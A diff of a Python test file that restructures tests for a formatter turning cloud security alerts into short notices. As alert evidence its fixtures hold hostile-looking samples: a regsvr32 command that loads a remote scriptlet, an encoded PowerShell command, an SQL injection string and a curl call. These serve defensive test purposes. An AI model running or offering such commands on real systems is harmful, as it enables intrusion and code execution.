@@ -5,9 +5,9 @@ from __future__ import annotations
 from collections.abc import Sequence
 from dataclasses import replace
 from datetime import UTC, datetime, timedelta, timezone
+from itertools import product
 from typing import Any
 
-import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
@@ -39,6 +39,7 @@ RELEASE = Release(
     kind="rule", name="known-scanner", author="ana@contoso.example", since="2026-11-21T08:00:00Z", messages=7
 )
 ZONES = (UTC, timezone(timedelta(hours=9)), timezone(timedelta(hours=-8)), timezone(timedelta(hours=5, minutes=45)))
+PARTS = {"Pods", "Namespaces", "Clusters"}
 NAMES = ("accounts", "ips", "processes", "hashes", "urls")
 
 
@@ -167,38 +168,12 @@ def test_what_is_hidden_is_counted_exactly(lists: list[list[int]]) -> None:
     assert screen.hidden == len(left)
 
 
-def test_what_happened_comes_first() -> None:
-    """Headline, what the title speaks of, description, where, since when, whom to ask, the evidence in its order."""
-    screen = screen_of(
-        a_notice(environment="production", evidence=Evidence(hosts=("vm-pay-01",), ips=("203.0.113.7",)), tactics=())
-    )
-    assert screen.headline == "Opened: High: Suspicious sign-in to a virtual machine - vm-pay-01 (production)"
-    assert lines_of(screen) == [
-        "IP addresses: 203.0.113.7",
-        "Somebody signed in from an address that was never seen before.",
-        "Where: vm-pay-01, production, resource group rg-payments",
-        "Since: 2026-11-24 11:58 UTC, last seen 11:59",
-        "Owner: payments-platform / Payments, route page-high",
-        "To do: Change the password.",
-    ]
-    assert (screen.hidden, screen.rest) == (0, None)
-
-
-def test_an_update_begins_with_what_changed() -> None:
-    """Its first line is the change, against what the destination was told last."""
-    screen = screen_of(change=Change.UPDATED, background=Background(last=a_notice(severity="Medium")))
-    assert lines_of(screen)[0] == "Severity: Medium to High."
-
-
 def test_a_resolution_says_how_it_ended_and_no_more_than_where_when_and_whose() -> None:
     """The channel has the rest already: no description, no evidence, nothing counted."""
-    screen = screen_of(change=Change.RESOLVED, background=Background(opened=NOW - timedelta(hours=3, minutes=12)))
-    first, *others = lines_of(screen)
-    assert first.startswith("Microsoft Defender for Cloud reports that this is over. It stood here for 3 h 12 min")
-    assert [one.partition(":")[0] for one in others] == ["Where", "Since", "Owner"]
     closed = screen_of(a_finding(closing="not seen since 2026-11-23"), Change.RESOLVED)
-    assert lines_of(closed)[0].startswith("Not seen since 2026-11-23.")
-    assert "Resource" not in str(lines_of(closed))
+    first, *others = lines_of(closed)
+    assert first.startswith("Not seen since 2026-11-23.")
+    assert [one.partition(":")[0] for one in others] == ["Where", "Since", "Owner"]
 
 
 def test_what_ended_untold_says_when_it_opened_and_was_over_behind_what_happened() -> None:
@@ -213,13 +188,6 @@ def test_what_ended_untold_says_when_it_opened_and_was_over_behind_what_happened
         "Opened 2026-11-24 10:00 UTC, over 2026-11-24 11:20 UTC, before this could be told.",
     ]
     assert "Processes" in names_of(screen)
-
-
-def test_a_release_says_what_had_held_it_behind_what_happened() -> None:
-    """Nobody has read of it yet, so what happened is first; then which rule, whose, and how many messages."""
-    first, second, *_ = lines_of(screen_of(a_notice(release=RELEASE, evidence=Evidence())))
-    assert first == "Somebody signed in from an address that was never seen before."
-    assert second.startswith("The rule known-scanner, by ana@contoso.example, held 7 messages since 2")
 
 
 def test_a_group_names_its_first_three_members() -> None:
@@ -240,29 +208,24 @@ def test_a_group_names_its_first_three_members() -> None:
     assert "- High: y" not in lines
 
 
-@pytest.mark.parametrize(
-    ("elsewhere", "rest"),
-    [
-        ((), "… and 20 more facts: open the alert"),
-        ((CHAT,), "… and 20 more facts: open the alert"),
-        ((PAGE,), "… and 20 more facts in the page PD-77"),
-        ((PAGE, TICKET, CHAT), "… and 20 more facts in the ticket INC0012345"),
-    ],
-)
-def test_the_rest_is_where_people_have_it_in_full(elsewhere: tuple[Counterpart, ...], rest: str) -> None:
-    """In the ticket, else the page, else behind the link; a message in another chat has no more than this one."""
-    notice = with_others(25)
-    screen = screen_of(notice, background=Background(elsewhere=elsewhere))
-    assert screen.rest == rest.replace("20", str(screen.hidden))
-    assert screen.hidden > 15
+def test_the_rest_is_where_people_have_it_in_full() -> None:
+    """In the ticket, else the page, else behind the link; a message in another chat has no more than this one.
 
-
-def test_without_a_link_the_rest_leads_nowhere() -> None:
-    """It is counted all the same; one is one."""
+    Without a link it leads nowhere, and is counted all the same; one more has the room of the line that would say so.
+    """
+    for elsewhere, where in (
+        ((), ": open the alert"),
+        ((CHAT,), ": open the alert"),
+        ((PAGE,), " in the page PD-77"),
+        ((PAGE, TICKET, CHAT), " in the ticket INC0012345"),
+    ):
+        screen = screen_of(with_others(25), background=Background(elsewhere=elsewhere))
+        assert screen.rest == f"… and {screen.hidden} more facts{where}"
+        assert screen.hidden > 15
     screen = screen_of(replace(with_others(25), link=None))
     assert screen.rest == f"… and {screen.hidden} more facts"
     counts = {screen_of(with_others(number)).rest for number in range(12)}
-    assert "… and 1 more fact: open the alert" not in counts, "one more has the room of the line that would say so"
+    assert "… and 1 more fact: open the alert" not in counts
     assert "… and 2 more facts: open the alert" in counts
 
 
@@ -306,113 +269,89 @@ def test_what_a_place_is_a_part_of_is_not_evidence_beside() -> None:
     """Cluster, namespace and pod stand in the headline: the lines are for the command, and none of them is counted."""
     screen = screen_of(a_shell_in_a_pod())
     assert screen.headline.endswith(" - aks-web-weu/shop/checkout-7d59c6c9bb-r8h4q (production)")
-    assert not {"Pods", "Namespaces", "Clusters", "Processes"} & set(names_of(screen))
+    assert not {*PARTS, "Processes"} & set(names_of(screen))
     assert f"Commands: {SHELL}" in lines_of(screen)
     assert screen.height == LINES
 
 
-def test_a_place_that_is_too_long_for_its_line_keeps_its_end() -> None:
-    """What it is a part of is left out, outermost first."""
+def test_a_place_that_is_too_long_is_told_by_its_end() -> None:
+    """What it is a part of is left out, outermost first; cluster and namespace stand in the headline, the pod in its line.
+
+    A pod of which both say only the beginning is told as evidence.
+    """
     full = {f"property {number}": f"value {number}" for number in range(25)}
-    screen = screen_of(a_shell_in_a_pod(extended=full, unlisted=tuple(full)))
-    assert "Where: …/shop/checkout-7d59c6c9bb-r8h4q" in lines_of(screen)
-
-
-def test_a_place_is_told_once_by_the_beginning_in_the_headline_and_the_end_in_its_line() -> None:
-    """Where neither has room for all of a location, cluster and namespace stand in the one, and the pod in the other."""
+    others: dict[str, Any] = {"extended": full, "unlisted": tuple(full)}
+    assert "Where: …/shop/checkout-7d59c6c9bb-r8h4q" in lines_of(screen_of(a_shell_in_a_pod(**others)))
     namespace, pod = "kubernetes-dashboard", "kubernetes-dashboard-6c9d7b8f5-x2x7k"
     lists = Evidence(pods=(pod,), namespaces=(namespace,), clusters=("aks-web-weu",), containers=("dashboard",))
-    full = {f"property {number}": f"value {number}" for number in range(25)}
-    screen = screen_of(
-        a_shell_in_a_pod(
-            title="Exposed Kubernetes dashboard detected", evidence=lists, extended=full, unlisted=tuple(full)
-        )
-    )
+    screen = screen_of(a_shell_in_a_pod(title="Exposed Kubernetes dashboard detected", evidence=lists, **others))
     assert f" - aks-web-weu/{namespace}/kub" in screen.headline
     assert f"{MARK} (production)" in screen.headline
     assert f"Where: …/{pod}" in lines_of(screen)
     assert names_of(screen)[0] == "Containers"
-    assert not {"Pods", "Namespaces", "Clusters"} & set(names_of(screen))
+    assert not PARTS & set(names_of(screen))
+    long = Evidence(pods=("checkout-" + "x" * 60,), namespaces=("shop",))
+    assert "Pods" in names_of(screen_of(a_shell_in_a_pod(evidence=long)))
 
 
-def test_a_place_that_no_line_has_room_for_stays_evidence() -> None:
-    """A pod of which headline and location say only the beginning is told as evidence."""
-    pod = "checkout-" + "x" * 60
-    screen = screen_of(a_shell_in_a_pod(evidence=Evidence(pods=(pod,), namespaces=("shop",))))
-    assert "Pods" in names_of(screen)
-
-
-@pytest.mark.parametrize("name", ["commands", "processes", "queries"])
-def test_how_it_was_done_comes_before_who_did_it(name: str) -> None:
+def test_how_it_was_done_comes_before_who_did_it() -> None:
     """A title that speaks of nothing else speaks of how it was done: the command is first, whatever the order of evidence."""
     command = r"C:\Windows\System32\regsvr32.exe /s /u /i:http://198.51.100.23/a.sct"
-    lists: dict[str, Any] = {
-        "hosts": ("pay-win-01.corp.contoso.example",), "accounts": ("root",), "ips": ("203.0.113.7",), name: (command,),
-    }  # fmt: skip
     words = "Somebody ran a program in a way that gets around what watches over programs on the machine. " * 3
     title = "A title that takes three lines of the screen together with the place that stands behind it"
-    few = screen_of(a_notice(title=title, description=words, evidence=Evidence(**lists)))
-    assert lines_of(few)[0] == f"{name.capitalize()}: {command}"
-    assert few.hidden == 4 - len(evidence_in(few))
-    many = screen_of(a_notice(title="Short", description="", evidence=Evidence(**lists), tactics=(), remediation=()))
-    assert names_of(many)[0] == name.capitalize()
-    assert [line.name for line in evidence_in(many)] == ["Hosts", "Accounts", "IP addresses"]
+    for name in ("commands", "processes", "queries"):
+        lists: dict[str, Any] = {
+            "hosts": ("pay-win-01.corp.contoso.example",), "accounts": ("root",), "ips": ("203.0.113.7",), name: (command,),
+        }  # fmt: skip
+        few = screen_of(a_notice(title=title, description=words, evidence=Evidence(**lists)))
+        assert lines_of(few)[0] == f"{name.capitalize()}: {command}"
+        assert few.hidden == 4 - len(evidence_in(few))
+        many = screen_of(
+            a_notice(title="Short", description="", evidence=Evidence(**lists), tactics=(), remediation=())
+        )
+        assert names_of(many)[0] == name.capitalize()
+        assert [line.name for line in evidence_in(many)] == ["Hosts", "Accounts", "IP addresses"]
 
 
-@pytest.mark.parametrize(
-    ("value", "beginning"),
-    [
+def test_a_path_is_cut_in_its_middle() -> None:
+    """What runs is the end of its path, and what it is told stands behind it; so does the beginning of what it started.
+
+    A path that is no command shows its end: the name and the tag of an image.
+    """
+    for value, beginning in (
         ("c:\\windows\\" + "s" * 140 + "\\regsvr32.exe", "c:\\…\\regsvr32.exe"),
         ("c:\\Program Files\\" + "s" * 140 + "\\regsvr32.exe /s", "c:\\…\\regsvr32.exe /s"),
         ('"c:\\Program Files\\' + "s" * 140 + '\\a.exe" -x', '"c:\\…\\a.exe" -x'),
         ("/usr/" + "s" * 140 + "/bin/run me", "/…/run me"),
         ("/usr/" + "s" * 140 + "/bin/run /tmp/" + "t" * 140, "/…/run /tmp/tttt"),
-    ],
-)
-def test_a_path_is_cut_in_its_middle(value: str, beginning: str) -> None:
-    """What runs is the end of its path, and what it is told stands behind it."""
-    screen = screen_of(a_notice(evidence=Evidence(processes=(value, "cmd"))))
-    (line,) = (line for line in screen.story if line.name == "Processes")
-    assert line.text.startswith(beginning)
-
-
-def test_what_a_process_started_is_told_beside_it() -> None:
-    """The first of the processes is often the one that started it, so the beginning of the next is told as well."""
-    processes = (
-        "c:\\windows\\explorer.exe (0x11d8)",
-        f"powershell.exe -NoProfile -EncodedCommand {'VwBy' * 50}",
-        "cmd",
-    )
+    ):
+        screen = screen_of(a_notice(evidence=Evidence(processes=(value, "cmd"))))
+        (line,) = (line for line in screen.story if line.name == "Processes")
+        assert line.text.startswith(beginning)
+    processes = ("c:\\windows\\explorer.exe (0x11d8)", f"powershell.exe -EncodedCommand {'VwBy' * 50}", "cmd")
     screen = screen_of(a_notice(evidence=Evidence(processes=processes)))
     (line,) = (line for line in screen.story if line.name == "Processes")
-    assert line.text.startswith("c:\\…\\explorer.exe (0x11d8), powershell.exe -NoProfile -EncodedCommand VwBy")
-    assert line.text.endswith("…")
-    assert (line.more, line.height) == (" and 1 more", 3)
-
-
-def test_a_path_that_is_no_command_shows_its_end() -> None:
-    """The name and the tag of an image."""
+    assert line.text.startswith("c:\\…\\explorer.exe (0x11d8), powershell.exe -EncodedCommand VwBy")
+    assert (line.text[-1], line.more, line.height) == ("…", " and 1 more", 3)
     image = f"registry.contoso.example/{'x' * 60}/checkout:4.18.2"
-    screen = screen_of(a_notice(evidence=Evidence(images=(image, "b"))))
-    assert "Images: …/checkout:4.18.2 and 1 more" in lines_of(screen)
+    assert "Images: …/checkout:4.18.2 and 1 more" in lines_of(
+        screen_of(a_notice(evidence=Evidence(images=(image, "b"))))
+    )
 
 
-@pytest.mark.parametrize("title", ["Container with a miner image detected", "Suspicious sign-in"])
-@pytest.mark.parametrize(
-    "registry", ["", "contosoprod.azurecr.example/", "registry.contoso.example:5000/payments/online/"]
-)
-@pytest.mark.parametrize("tag", ["", ":4.18.2-20261124.1"])
-def test_an_image_is_cut_at_its_digest(title: str, registry: str, tag: str) -> None:
+def test_an_image_is_cut_at_its_digest() -> None:
     """Name and tag are whole, as evidence and in the description, and the digest is what gives way."""
     digest = "877a6f2a212c44021281f80cb1f4c73a09dce4e99a8cb8efcc03f7ce3c877a6f"
-    image = f"{registry}checkout{tag}@sha256:{digest}"
-    notice = a_notice(
-        title=title, description=f"The image {image} runs.", evidence=Evidence(images=(image,)), remediation=()
-    )
-    (line,) = (line for line in lines_of(screen_of(notice)) if line.startswith("Images: "))
-    assert line.endswith(f"checkout{tag}@sha256:877a6f2a212c…")
-    assert digest not in screen_of(notice).text
-    assert f"checkout{tag}@sha256:877a6f2a212c…" in screen_of(replace(notice, evidence=Evidence())).text
+    registries = ("", "contosoprod.azurecr.example/", "registry.contoso.example:5000/payments/online/")
+    titles = ("Container with a miner image detected", "Suspicious sign-in")
+    for title, registry, tag in product(titles, registries, ("", ":4.18.2-20261124.1")):
+        image = f"{registry}checkout{tag}@sha256:{digest}"
+        description = f"The image {image} runs."
+        notice = a_notice(title=title, description=description, evidence=Evidence(images=(image,)), remediation=())
+        (line,) = (line for line in lines_of(screen_of(notice)) if line.startswith("Images: "))
+        assert line.endswith(f"checkout{tag}@sha256:877a6f2a212c…")
+        assert digest not in screen_of(notice).text
+        assert f"checkout{tag}@sha256:877a6f2a212c…" in screen_of(replace(notice, evidence=Evidence())).text
 
 
 def test_no_row_ends_with_what_it_leaves_out() -> None:
@@ -430,27 +369,28 @@ def test_no_row_ends_with_what_it_leaves_out() -> None:
     assert owner == "Owner: cloud-platform / Payments of Contoso"
 
 
-@pytest.mark.parametrize("words", [1, 12, 30, 60])
-def test_the_first_step_stands_whole(words: int) -> None:
+def test_the_first_step_stands_whole() -> None:
     """Below the screen where it is long: one line of it is counted, and the evidence is what gives way."""
-    step = " ".join(f"word{number}" for number in range(words))
     full = replace(with_others(25), description="Words of it. " * 20, evidence=Evidence(ips=("203.0.113.7",)))
-    for notice in (full, a_shell_in_a_pod()):
+    for words, notice in product((1, 12, 30, 60), (full, a_shell_in_a_pod())):
+        step = " ".join(f"word{number}" for number in range(words))
         screen = screen_of(replace(notice, remediation=(f"{step}.", "Then do more.")))
-        assert str(screen.step) == f"To do: {step}."
-        assert screen.height == LINES
+        assert (str(screen.step), screen.height) == (f"To do: {step}.", LINES)
     both = screen_of(a_notice(remediation=("To mend it:", "1. Do this.", "2. Do that.")))
     assert str(both.step) == "To do: To mend it: 1. Do this."
 
 
 def test_portal_runbook_and_ticket_are_always_among_the_links() -> None:
-    """Further runbooks and what the message names stand behind them."""
-    notice = a_notice(
-        runbooks=tuple(f"https://runbooks.example/{number}" for number in range(5)),
-        links=tuple(Link(text=f"More {number}", url=f"https://a.example/{number}") for number in range(5)),
+    """Further runbooks and what the message names stand behind them, four at most; what leads nowhere is none."""
+    elsewhere = Background(elsewhere=(CHAT, TICKET))
+    more = (
+        Link(text="x", url="javascript:x"),
+        *(Link(text=f"More {n}", url=f"https://a.example/{n}") for n in range(5)),
     )
-    screen = screen_of(notice, background=Background(elsewhere=(CHAT, TICKET)))
-    assert [link.text for link in screen.links] == ["Azure portal", "Runbook", "Ticket INC0012345 (snow)", "Runbook 2"]
+    for count, last in ((5, "Runbook 2"), (1, "More 0")):
+        runbooks = tuple(f"https://runbooks.example/{number}" for number in range(count))
+        screen = screen_of(a_notice(runbooks=runbooks, links=more), background=elsewhere)
+        assert [link.text for link in screen.links] == ["Azure portal", "Runbook", "Ticket INC0012345 (snow)", last]
 
 
 def test_a_list_tells_whole_values_and_how_many_more_there_are() -> None:
@@ -468,21 +408,15 @@ def test_a_list_tells_whole_values_and_how_many_more_there_are() -> None:
     assert shown["Processes"].height == 3
 
 
-@pytest.mark.parametrize(("length", "told"), [(28, "u" * 28), (29, f"{'u' * 27}…")])
-def test_a_value_that_fills_its_line_is_whole(length: int, told: str) -> None:
-    """With its name before it and how many more there are behind it: 45 characters; one more, and it is cut."""
-    screen = screen_of(replace(with_others(25), evidence=Evidence(urls=("u" * length, "v" * 100))))
-    assert f"URLs: {told} and 1 more" in lines_of(screen)
-
-
-@pytest.mark.parametrize(("over", "is_cut"), [(0, False), (1, True)])
-def test_a_headline_has_three_lines(over: int, is_cut: bool) -> None:
-    """135 characters go whole; one more, and it ends with the mark."""
-    around = len("Opened: High:  - vm-pay-01")
-    headline = screen_of(a_notice(title="x" * (3 * WIDTH - around + over))).headline
-    assert (MARK in headline) is is_cut
-    assert headline.endswith(" - vm-pay-01"), "the title gives way"
-    assert is_cut or len(headline) == 3 * WIDTH
+def test_what_fills_its_line_is_whole() -> None:
+    """A value with its name before it and how many more behind it: 45 characters; a headline 135; one more, and it is cut."""
+    for length, told in ((28, "u" * 28), (29, f"{'u' * 27}…")):
+        screen = screen_of(replace(with_others(25), evidence=Evidence(urls=("u" * length, "v" * 100))))
+        assert f"URLs: {told} and 1 more" in lines_of(screen)
+    room = 3 * WIDTH - len("Opened: High:  - vm-pay-01")
+    whole, cut = (screen_of(a_notice(title="x" * (room + over))).headline for over in (0, 1))
+    assert (len(whole), MARK in whole, MARK in cut) == (3 * WIDTH, False, True)
+    assert cut.endswith(" - vm-pay-01"), "the title gives way"
 
 
 def test_a_description_ends_with_a_sentence_where_one_is_near() -> None:
@@ -502,18 +436,14 @@ def test_a_description_ends_with_a_sentence_where_one_is_near() -> None:
 
 def test_times_say_no_day_and_no_zone_twice() -> None:
     """Since when and by when people should respond, which both stay, and when it was last seen, where there is room."""
-    for respond_by, said in (
-        ("2026-11-24T16:00:00Z", "2026-11-24 11:58 UTC, respond by 16:00, last seen 11:59"),
-        ("2026-11-25T16:00:00Z", "2026-11-24 11:58 UTC, respond by 2026-11-25 16:00, last seen 2026-11-24 11:59"),
+    for respond_by, said, seen in (
+        ("2026-11-24T16:00:00Z", "2026-11-24 11:58 UTC, respond by 16:00", ", last seen 11:59"),
+        ("2026-11-25T16:00:00Z", "2026-11-24 11:58 UTC, respond by 2026-11-25 16:00, last seen 2026-11-24 11:59", ""),
     ):
         screen = screen_of(a_notice(respond_by=respond_by, evidence=Evidence(), tactics=()))
-        assert [line.text for line in screen.facts if line.name == "Since"] == [said]
-    for respond_by, said in (
-        ("2026-11-24T16:00:00Z", "2026-11-24 11:58 UTC, respond by 16:00"),
-        ("2026-11-25T16:00:00Z", "2026-11-24 11:58 UTC, respond by 2026-11-25 16:00, last seen 2026-11-24 11:59"),
-    ):
         full = screen_of(replace(with_others(25), respond_by=respond_by))
-        assert [line.text for line in full.facts if line.name == "Since"] == [said]
+        told = [line.text for one in (screen, full) for line in one.facts if line.name == "Since"]
+        assert told == [f"{said}{seen}", said]
 
 
 def test_a_huge_notice_is_a_screen_at_once() -> None:
@@ -523,14 +453,6 @@ def test_a_huge_notice_is_a_screen_at_once() -> None:
     assert screen.height == LINES
     assert MARK in screen.headline
     assert f" and {len(huge.evidence.hosts) - 1} more" in str(lines_of(screen))
-
-
-def test_links_that_lead_nowhere_are_none() -> None:
-    """The portal's, the runbook's, the ticket's, and what the message names: four at most, in this order."""
-    links = (Link(text="More", url="https://a.example/"), Link(text="x", url="javascript:x"))
-    notice = a_notice(runbooks=("https://runbooks.example/1",), links=links)
-    screen = screen_of(notice, background=Background(elsewhere=(CHAT, TICKET)))
-    assert [link.text for link in screen.links] == ["Azure portal", "Runbook", "Ticket INC0012345 (snow)", "More"]
 
 
 def test_a_fact_without_a_word_is_none() -> None:
@@ -547,44 +469,36 @@ A_LOGIN: dict[str, Any] = {
 }  # fmt: skip
 
 
-@pytest.mark.parametrize(
-    ("title", "lists", "first"),
-    [
-        ("Log on from an unusual location", A_LOGIN, "Locations: 198.51.100.23: Utrecht, Netherlands (AS64500)"),
-        (
-            "Suspected brute force attack using a valid user",
-            {"ips": ("198.51.100.23",), "accounts": ("sa",)},
-            "IP addresses",
-        ),
-        (
-            "Attempted communication with suspicious sinkholed domain",
-            {"ips": ("198.51.100.23",), "domains": ("sink.example (198.51.100.23)",), "processes": ("svchost.exe",)},
-            "Domains: sink.example (198.51.100.23)",
-        ),
-        (
-            "Potential malware uploaded to a storage account",
-            {"ips": ("198.51.100.23",), "malware": ("Eicar (Virus)",), "blobs": ("https://a.example/in/eicar.com",)},
-            "Malware: Eicar (Virus)",
-        ),
-        ("Potential SQL injection", {**A_LOGIN, "queries": ("SELECT 1 OR 1=1 --",)}, "Queries: SELECT 1 OR 1=1 --"),
-        ("User accessed high volume of key vaults", A_LOGIN, "Locations: 198.51.100.23: Utrecht"),
-        ("Suspicious Account Creation Detected", {**A_LOGIN, "processes": ("net user",)}, "Accounts: svc-report"),
-        ("Digital currency mining container detected", {"pods": ("p",), "images": ("a/miner:1",)}, "Images: a/miner:1"),
-        (
-            "Role binding to the cluster-admin role detected",
-            {"roles": ("admins",), "accounts": ("ada",)},
-            "Roles: admins",
-        ),
-        ("A title of tomorrow", {**A_LOGIN, "processes": ("curl -s http://a.example",)}, "Processes: curl"),
-        ("Suspicious creation of compute resources detected", A_LOGIN, "Locations: 198.51.100.23: Utrecht"),
-    ],
-)
-@pytest.mark.parametrize("properties", [0, 25])
-def test_what_the_title_speaks_of_comes_first(title: str, lists: dict[str, Any], first: str, properties: int) -> None:
+SPOKEN_OF: dict[str, tuple[dict[str, Any], str]] = {
+    "Log on from an unusual location": (A_LOGIN, "Locations: 198.51.100.23: Utrecht, Netherlands (AS64500)"),
+    "Suspected brute force attack using a valid user": (
+        {"ips": ("198.51.100.23",), "accounts": ("sa",)},
+        "IP addresses",
+    ),
+    "Attempted communication with suspicious sinkholed domain": (
+        {"ips": ("198.51.100.23",), "domains": ("sink.example (198.51.100.23)",), "processes": ("svchost.exe",)},
+        "Domains: sink.example (198.51.100.23)",
+    ),
+    "Potential malware uploaded to a storage account": (
+        {"ips": ("198.51.100.23",), "malware": ("Eicar (Virus)",), "blobs": ("https://a.example/in/eicar.com",)},
+        "Malware: Eicar (Virus)",
+    ),
+    "Potential SQL injection": ({**A_LOGIN, "queries": ("SELECT 1 OR 1=1 --",)}, "Queries: SELECT 1 OR 1=1 --"),
+    "User accessed high volume of key vaults": (A_LOGIN, "Locations: 198.51.100.23: Utrecht"),
+    "Suspicious Account Creation Detected": ({**A_LOGIN, "processes": ("net user",)}, "Accounts: svc-report"),
+    "Digital currency mining container detected": ({"pods": ("p",), "images": ("a/miner:1",)}, "Images: a/miner:1"),
+    "Role binding to the cluster-admin role detected": ({"roles": ("admins",), "accounts": ("ada",)}, "Roles: admins"),
+    "A title of tomorrow": ({**A_LOGIN, "processes": ("curl -s http://a.example",)}, "Processes: curl"),
+    "Suspicious creation of compute resources detected": (A_LOGIN, "Locations: 198.51.100.23: Utrecht"),
+}
+
+
+def test_what_the_title_speaks_of_comes_first() -> None:
     """Whatever else there is to say, and what the deadline, the place and the links take."""
-    full = replace(with_others(properties), description="Words of it. " * 20, respond_by="2026-12-01T00:30:00Z")
-    screen = screen_of(replace(full, title=title, evidence=Evidence(**lists), environment="production"))
-    assert lines_of(screen)[0].startswith(first)
+    for properties, (title, (lists, first)) in product((0, 25), SPOKEN_OF.items()):
+        full = replace(with_others(properties), description="Words of it. " * 20, respond_by="2026-12-01T00:30:00Z")
+        screen = screen_of(replace(full, title=title, evidence=Evidence(**lists), environment="production"))
+        assert lines_of(screen)[0].startswith(first)
 
 
 def test_an_address_that_stands_before_its_place_is_not_said_again() -> None:
@@ -596,22 +510,18 @@ def test_an_address_that_stands_before_its_place_is_not_said_again() -> None:
     assert "IP addresses: 198.51.100.23, 192.0.2.1" in lines_of(screen)
 
 
-@pytest.mark.parametrize(
-    ("sentence", "is_said"),
-    [
+def test_a_sentence_that_repeats_the_headline_goes() -> None:
+    """As often as one begins the description, and not where it says more."""
+    for sentence, is_said in (
         ("Suspicious sign-in to a virtual machine.", False),
         ("Microsoft Defender for Cloud detected a suspicious sign-in to your virtual machine vm-pay-01:", False),
         ("THIS IS A SUSPICIOUS SIGN-IN!", False),
         ("A suspicious sign-in to a virtual machine from 203.0.113.7.", True),
         ("Somebody guessed a password.", True),
-    ],
-)
-def test_a_sentence_that_repeats_the_headline_goes(sentence: str, is_said: bool) -> None:
-    """As often as one begins the description, and not where it says more."""
-    screen = screen_of(a_notice(description=f"{sentence} {sentence} It came at night.", evidence=Evidence()))
-    assert lines_of(screen)[0] == (f"{sentence} {sentence} It came at night." if is_said else "It came at night.")
-    alone = lines_of(screen_of(a_notice(description=sentence)))
-    assert (sentence in alone) is is_said
+    ):
+        screen = screen_of(a_notice(description=f"{sentence} {sentence} It came at night.", evidence=Evidence()))
+        assert lines_of(screen)[0] == (f"{sentence} {sentence} It came at night." if is_said else "It came at night.")
+        assert (sentence in lines_of(screen_of(a_notice(description=sentence)))) is is_said
 
 
 moments = st.builds(datetime.fromtimestamp, st.integers(1_700_000_000, 1_900_000_000), st.sampled_from(ZONES)) | (
